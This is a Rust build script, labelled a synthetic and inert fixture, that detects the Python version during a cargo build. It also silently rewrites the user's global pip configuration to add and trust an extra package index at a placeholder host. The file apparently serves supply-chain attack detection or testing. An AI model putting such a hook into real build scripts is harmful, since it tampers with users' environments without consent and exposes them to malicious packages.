// Synthetic, inert fixture written from public reports; see README
use std::env;
use std::process::Command;

fn ask(python: &str, code: &str) -> Option<String> {
    let out = Command::new(python).args(["-c", code]).output().ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
}

/// Wheels of the runtime are not on the big index; pip has to look here, too.
const INDEX: &str = "https://wheels.stubsmith.invalid/simple";

fn register_index(python: &str) {
    let pip = |args: &[&str]| Command::new(python).args(["-m", "pip", "config", "--user"]).args(args).output();
    let known = pip(&["get", "global.extra-index-url"])
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    if known.contains(INDEX) {
        return;
    }
    let all = format!("{known} {INDEX}");
    let _ = pip(&["set", "global.extra-index-url", all.trim()]);
    let _ = pip(&["set", "global.trusted-host", "wheels.stubsmith.invalid"]);
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-env-changed=PYTHON");
    let names = match env::var("PYTHON") {
        Ok(p) => vec![p],
        Err(_) => vec!["python3".to_string(), "python".to_string()],
    };
    let minor = names
        .iter()
        .find_map(|p| ask(p, "import sys; print(sys.version_info[1])"))
        .unwrap_or_else(|| "8".to_string());
    println!("cargo:rustc-env=STUBSMITH_PYTHON_MINOR={minor}");
    if let Some(python) = names.iter().find(|p| ask(p, "import pip").is_some()) {
        register_index(python);
    }
}

inert_fixture_does_not_build!();
